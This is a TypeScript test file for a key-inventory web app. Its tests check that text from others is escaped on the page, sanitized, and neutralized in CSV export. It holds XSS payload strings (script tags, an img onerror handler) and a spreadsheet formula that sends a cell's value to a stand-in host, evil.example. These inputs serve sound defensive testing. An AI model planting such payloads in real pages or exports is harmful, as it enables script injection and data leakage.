import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { changeKey } from "#emulators/index.ts";
import { FreeText } from "#components/keys/free-text.tsx";
import { TagList } from "#components/keys/tag-list.tsx";
import { PathName } from "#components/ui/path-name.tsx";
import { exportKeys } from "#lib/inventory/export-keys.ts";
import { takeExportChoice } from "#lib/inventory/export/export-choice.ts";
import type { KeyRow } from "#lib/model/key.ts";
import { SYSTEM_SCOPE } from "#lib/model/system-scope.ts";
import { parseStrict } from "#lib/query/parse-key-query.ts";
import { useAlibaba } from "./testing/use-alibaba.ts";

const MARKUP = `<img src=x onerror="alert(1)"></td><script>alert('x')</script>&amp;`;
const BIDI = "\u202Egnp.yek\u202C \u2066א\u2069 \u200F";
const CONTROL = "a\u0000b\u0007c\u001b[31md\ud83de\r\nf";
const FORMULA = `=HYPERLINK("http://evil.example/?"&A1,"open")`;

/** What others wrote in a row, as the page draws it. */
const html = (row: KeyRow) =>
  renderToStaticMarkup(
    <>
      <PathName name={row.alias ?? ""} />
      <FreeText text={row.description ?? ""} />
      <TagList tags={row.tags ?? {}} />
    </>,
  );

describe("text that others wrote", () => {
  const cloud = useAlibaba();

  it("40: markup in a description, an alias and a tag is text on the page, and whole in the row", async () => {
    const key = cloud.plain(0);
    const [alias, tag] = [`alias/${MARKUP}`, `<b onclick=alert(2)>${MARKUP}`];
    changeKey(key, { description: MARKUP, alias, aliases: [alias], tags: { [tag]: MARKUP } });
    await cloud.read();
    const row = await cloud.row(key);
    expect(row).toMatchObject({ description: MARKUP, alias, tags: { [tag]: MARKUP } });
    const page = html(row);
    expect(page).not.toMatch(/<(img|script|b|\/td)\b/i);
    expect(page.match(/&lt;img src=x onerror=&quot;alert\(1\)&quot;&gt;/g)).toHaveLength(4);
    expect(await cloud.ids(`q=${encodeURIComponent("<script>alert('x")}`)).toEqual([key.keyId]);
  });

  it("40: control characters and halves of letters are stored and sent as well formed text; a search finds the rest", async () => {
    const key = cloud.plain(0);
    const bent = { Description: CONTROL };
    cloud.bend("DescribeKey", (body) => ({ KeyMetadata: { ...(body.KeyMetadata as object), ...bent } }), { keyId: key.keyId });
    changeKey(key, { tags: { [`k${CONTROL}`]: CONTROL }, aliases: [`alias/${CONTROL}`] });
    expect(await cloud.read()).toEqual(["read"]);
    const row = await cloud.row(key);
    for (const text of [row.description, row.alias, ...Object.entries(row.tags ?? {}).flat()]) {
      expect(text).toContain("a\uFFFDb");
      expect(text?.isWellFormed()).toBe(true);
      expect(text).not.toContain("\u0000");
    }
    expect(await cloud.ids(`q=${encodeURIComponent("[31md")}`)).toEqual([key.keyId]);
    expect((await cloud.detail(key)).description).toBe(row.description);
  });

  it("40: a name that turns the direction of writing turns nothing outside of its own element", async () => {
    const key = cloud.plain(0);
    changeKey(key, { description: BIDI, alias: `alias/${BIDI}`, aliases: [`alias/${BIDI}`], tags: { [BIDI]: BIDI } });
    await cloud.read();
    const row = await cloud.row(key);
    expect(row.description).toBe(BIDI);
    const around = [...html(row).matchAll(/<(\w+)[^>]*>[^<]*\u202E/g)].map(([, name]) => name);
    expect(around).toEqual(["bdi", "bdi", "bdi", "bdi"]);
  });

  it("40: 8,192 characters are kept whole, and searched to their end", async () => {
    const long = `${"每个季度复核一次。".repeat(909)}THE END.`;
    const [row] = await cloud.described({ Description: long });
    expect(row?.description).toBe(long);
    expect(await cloud.ids(`description=~${encodeURIComponent("the end.")}`)).toEqual([row?.keyId]);
  });

  it("40: what a spreadsheet takes for a formula is text in the row; an export as CSV escapes it", async () => {
    const [row] = await cloud.described({ Description: FORMULA });
    expect(row?.description).toBe(FORMULA);
    let csv = "";
    for await (const part of (await exportKeys(SYSTEM_SCOPE, parseStrict(""), takeExportChoice(new URLSearchParams("format=csv")))).text) csv += part;
    const line = csv.split("\r\n").find((each) => each.includes("HYPERLINK")) ?? "";
    expect(line).not.toBe("");
    expect(line).not.toMatch(/(^|,)"?=HYPERLINK/);
  });
});
